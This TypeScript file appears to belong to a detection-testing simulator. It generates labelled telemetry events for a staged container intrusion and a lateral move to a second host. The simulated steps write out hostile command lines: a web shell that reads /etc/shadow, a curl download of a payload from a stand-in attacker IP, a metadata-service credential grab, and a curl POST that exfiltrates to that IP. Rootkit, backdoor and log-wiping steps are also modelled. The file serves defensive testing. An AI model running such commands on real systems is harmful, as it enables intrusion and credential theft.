/**
 * The intrusion storyline hidden among routine activity on `web-1`, inside the nginx container:
 * a web shell spawned by an nginx worker, reconnaissance, a refused read of /etc/shadow, payload
 * download and launch, privilege escalation, credential theft, process injection, a rootkit
 * (kernel module + eBPF), cron persistence and log wiping. In a fleet where `web-2` runs a
 * newer agent, the intruder then moves on to it (`lateralMovement`): an SSH login from web-1
 * with the deploy user's password, the instance's AWS credentials taken from the metadata
 * service with curl (IMDSv1), and a connection out to the attacker's server — events only
 * the newer agent reports. Every event is labelled with its step.
 */
import type { AgentProfile } from './agents';
import { since } from './agents';
import { BIN } from './binaries';
import { O, chmod, open, unlink } from './events-file';
import { bpfProgLoad, loadModule, mprotect } from './events-kernel';
import { accept, connect, imds } from './events-modern';
import { bind, dns, hostIpAt } from './events-network';
import { ptrace, setgid, setuid } from './events-process';
import { ENV } from './environments';
import { S_IFREG } from './files';
import type { HostSim } from './host-sim';
import { GROUPS, USERS } from './identities';
import type { Job } from './sim';
import { sec } from './job-helpers';
import { NS_PER_S } from './time-format';

/** Storyline steps in order; each names exactly one event. */
export const STORYLINE_STEPS = [
  'web-shell',
  'recon-id',
  'recon-id-exit',
  'recon-uname',
  'recon-uname-exit',
  'shadow-cat',
  'shadow-read-refused',
  'shadow-cat-exit',
  'download',
  'download-write',
  'download-exit',
  'chmod',
  'chmod-exec-bit',
  'chmod-exit',
  'payload-exec',
  'c2-dns',
  'backdoor-bind',
  'privilege-escalation',
  'shadow-cat-root',
  'shadow-read',
  'shadow-cat-root-exit',
  'ptrace-attach',
  'ptrace-inject',
  'mprotect-rwx',
  'rootkit-drop',
  'rootkit-load',
  'bpf-load',
  'cron-persistence',
  'log-wipe',
  'self-delete',
] as const;

export type StorylineStep = (typeof STORYLINE_STEPS)[number];

/** Nominal duration of the storyline (its waits add up to about this). */
export const STORYLINE_NOMINAL_NS = 300 * NS_PER_S;

/**
 * How a storyline labels its next event with its step, and how long it waits: `seconds`
 * scaled by `scale`, with up to 20 % jitter, at least a millisecond.
 */
function storyClock<Step extends string>(h: HostSim, scale: number) {
  return {
    label: (step: Step) => {
      h.sim.nextStory = step;
    },
    wait: (seconds: number) =>
      Math.max(1_000_000, sec(seconds) * scale + h.rng.int(sec(seconds) * scale * 0.2 + 1)),
  };
}

/**
 * Runs the storyline on `h` (a web host). `scale` (0..1] compresses its waits so that it fits
 * short runs.
 */
export function* storyline(h: HostSim, scale: number): Job {
  const { label, wait } = storyClock<StorylineStep>(h, scale);
  const worker = h.daemon('nginx-worker-0');
  const master = h.daemon('nginx');
  const shellCmd = "echo 'id;uname -a;cat /etc/shadow' | sh";

  label('web-shell');
  const sh = h.spawn(
    worker,
    { bin: BIN.cSh, argv0: 'sh', args: ['-c', shellCmd], envs: ENV.webShell },
    'potential_web_shell_parent',
  );
  yield wait(2);

  label('recon-id');
  const id = h.spawn(sh, { bin: BIN.cId, argv0: 'id' });
  yield wait(0.05);
  label('recon-id-exit');
  h.exit(id, 0);
  yield wait(3);

  label('recon-uname');
  const uname = h.spawn(sh, { bin: BIN.cUname, argv0: 'uname', args: ['-a'] });
  yield wait(0.05);
  label('recon-uname-exit');
  h.exit(uname, 0);
  yield wait(4);

  const shadowInit = { owner: USERS.root, group: GROUPS.shadow, mode: S_IFREG | 0o640 };
  label('shadow-cat');
  const cat = h.spawn(sh, { bin: BIN.cCat, argv0: 'cat', args: ['/etc/shadow'] });
  yield wait(0.01);
  label('shadow-read-refused');
  open(h, cat, '/etc/shadow', {
    flags: O.read,
    init: shadowInit,
    rule: 'shadow_file_access',
    outcome: 'Refused',
  });
  yield wait(0.01);
  label('shadow-cat-exit');
  h.exit(cat, 1);
  yield wait(35);

  label('download');
  const curl = h.spawn(
    sh,
    { bin: BIN.cCurl, argv0: 'curl', args: ['-s', 'http://203.0.113.50/x.sh', '-o', '/tmp/.x'] },
    'net_util_in_container',
  );
  yield wait(0.4);
  label('download-write');
  open(h, curl, '/tmp/.x', { flags: O.create, create: 0o644, rule: 'net_file_download' });
  yield wait(0.6);
  label('download-exit');
  h.exit(curl, 0);
  yield wait(8);

  label('chmod');
  const chmodProc = h.spawn(sh, { bin: BIN.cChmod, argv0: 'chmod', args: ['+x', '/tmp/.x'] });
  yield wait(0.01);
  label('chmod-exec-bit');
  chmod(h, chmodProc, '/tmp/.x', 0o755, 'executable_bit_added');
  yield wait(0.01);
  label('chmod-exit');
  h.exit(chmodProc, 0);
  yield wait(3);

  label('payload-exec');
  const payload = h.spawn(
    sh,
    { bin: BIN.payload, argv0: '/tmp/.x', envs: ENV.webShell, upper: true },
    'hidden_file_executed',
  );
  yield wait(1);
  label('c2-dns');
  dns(h, payload, 'pastebin.com', 'A', 'paste_site');
  yield wait(2);
  label('backdoor-bind');
  bind(h, payload, '0.0.0.0', 4444, 'TCP');
  yield wait(25);

  label('privilege-escalation');
  setuid(h, payload, USERS.root);
  yield wait(4);
  label('shadow-cat-root');
  const catRoot = h.spawn(payload, { bin: BIN.cCat, argv0: 'cat', args: ['/etc/shadow'] });
  yield wait(0.01);
  label('shadow-read');
  open(h, catRoot, '/etc/shadow', { flags: O.read, init: shadowInit, rule: 'shadow_file_access' });
  yield wait(0.01);
  label('shadow-cat-root-exit');
  h.exit(catRoot, 0);
  yield wait(50);

  label('ptrace-attach');
  ptrace(h, payload, 'PTRACE_ATTACH', master);
  yield wait(0.2);
  label('ptrace-inject');
  ptrace(h, payload, 'PTRACE_POKETEXT', master, '0x55d4c3a1f000', 'ptrace_injection');
  yield wait(1);
  label('mprotect-rwx');
  mprotect(h, payload, 0x21000, 'PROT_READ | PROT_WRITE', 'PROT_EXEC | PROT_READ | PROT_WRITE');
  yield wait(20);

  label('rootkit-drop');
  open(h, payload, '/tmp/rootkit.ko', { flags: O.create, create: 0o644 });
  yield wait(2);
  label('rootkit-load');
  loadModule(h, payload, 'rootkit', '/tmp/rootkit.ko', 'kernel_module_load_container');
  yield wait(5);
  label('bpf-load');
  bpfProgLoad(
    h,
    payload,
    {
      name: 'hide_pid',
      programType: 'BPF_PROG_TYPE_KPROBE',
      helpers: ['BPF_MAP_LOOKUP_ELEM', 'BPF_GET_CURRENT_PID_TGID', 'BPF_PROBE_WRITE_USER'],
    },
    'bpf_probe_write_user_usage',
  );
  yield wait(30);

  label('cron-persistence');
  open(h, payload, '/etc/cron.d/.sysupdate', {
    flags: ['O_CREAT', 'O_WRONLY'],
    create: 0o644,
    rule: 'cron_at_job_creation_open',
  });
  yield wait(10);
  label('log-wipe');
  unlink(h, payload, '/var/log/nginx/access.log', 'delete_system_log');
  yield wait(2);
  label('self-delete');
  unlink(h, payload, '/tmp/.x', 'unlink_self');
}

/** Steps of the intrusion's continuation on web-2; each names exactly one event. */
export const LATERAL_STEPS = [
  'lateral-accept',
  'lateral-setgid',
  'lateral-setuid',
  'lateral-shell',
  'imds-curl',
  'imds-request',
  'imds-credentials',
  'imds-curl-exit',
  'exfil-curl',
  'exfil-connect',
  'exfil-curl-exit',
  'lateral-logout',
] as const;

/** The continuation needs a host whose agent reports accept, imds and connect (7.65: hostnames). */
export function canMoveTo(agent: AgentProfile): boolean {
  return since(agent, 65);
}

/** The attacker's server, as in the download on web-1. */
const ATTACKER_IP = '203.0.113.50';

/**
 * The intruder logs in to `h` (web-2) over SSH from web-1 (the fleet's first host) as
 * `deploy`, whose password hash was read from /etc/shadow, takes the instance role's
 * credentials from the metadata service and sends them out. `scale` as for `storyline`.
 */
export function* lateralMovement(h: HostSim, scale: number): Job {
  const { label, wait } = storyClock<(typeof LATERAL_STEPS)[number]>(h, scale);
  const sshd = h.daemon('sshd');
  const user = USERS.deploy;

  label('lateral-accept');
  accept(h, sshd, {
    ip: hostIpAt(0),
    port: 32768 + h.rng.int(28000),
    hostnames: ['web-1.internal'],
  });
  yield wait(1.5);
  const monitor = h.fork(sshd, { session: { id: user.user, group: user.group } });
  const child = h.fork(monitor, { tty: 'pts/1' });
  label('lateral-setgid');
  setgid(h, child, user);
  yield wait(0.01);
  label('lateral-setuid');
  setuid(h, child, user);
  yield wait(0.01);
  label('lateral-shell');
  const shell = h.spawn(child, { bin: BIN.bash, argv0: '-bash', envs: ENV.login });
  yield wait(6);

  const role = 'web-2-instance-role';
  const url = `/latest/meta-data/iam/security-credentials/${role}`;
  label('imds-curl');
  const curl = h.spawn(
    shell,
    { bin: BIN.curl, argv0: 'curl', args: ['-s', `http://169.254.169.254${url}`] },
    'net_util',
  );
  yield wait(0.02);
  const userAgent = 'curl/7.81.0';
  label('imds-request');
  imds(h, curl, { type: 'request', url, userAgent, v2: false }, 'aws_imds');
  yield wait(0.01);
  const format = (ns: number) => h.sim.fmt.format(ns).replace(/\.\d+Z$/, 'Z');
  label('imds-credentials');
  imds(
    h,
    curl,
    {
      type: 'response',
      url,
      userAgent,
      v2: false,
      credentials: {
        accessKeyId: `ASIA${h.rng.hex(16).toUpperCase()}`,
        lastUpdated: format(h.sim.now - 2400 * 1e9),
        expiration: format(h.sim.now + 3 * 3600 * 1e9),
      },
    },
    'aws_imds',
  );
  yield wait(0.02);
  label('imds-curl-exit');
  h.exit(curl, 0);
  yield wait(9);

  label('exfil-curl');
  const exfil = h.spawn(
    shell,
    {
      bin: BIN.curl,
      argv0: 'curl',
      args: ['-s', '-X', 'POST', '--data-binary', '@-', `https://${ATTACKER_IP}/k`],
    },
    'net_util',
  );
  yield wait(0.05);
  label('exfil-connect');
  connect(h, exfil, { ip: ATTACKER_IP, port: 443, hostnames: [] });
  yield wait(0.8);
  label('exfil-curl-exit');
  h.exit(exfil, 0);
  yield wait(4);
  label('lateral-logout');
  h.exit(shell, 0);
  h.exit(child, 0);
  h.exit(monitor, 0);
}
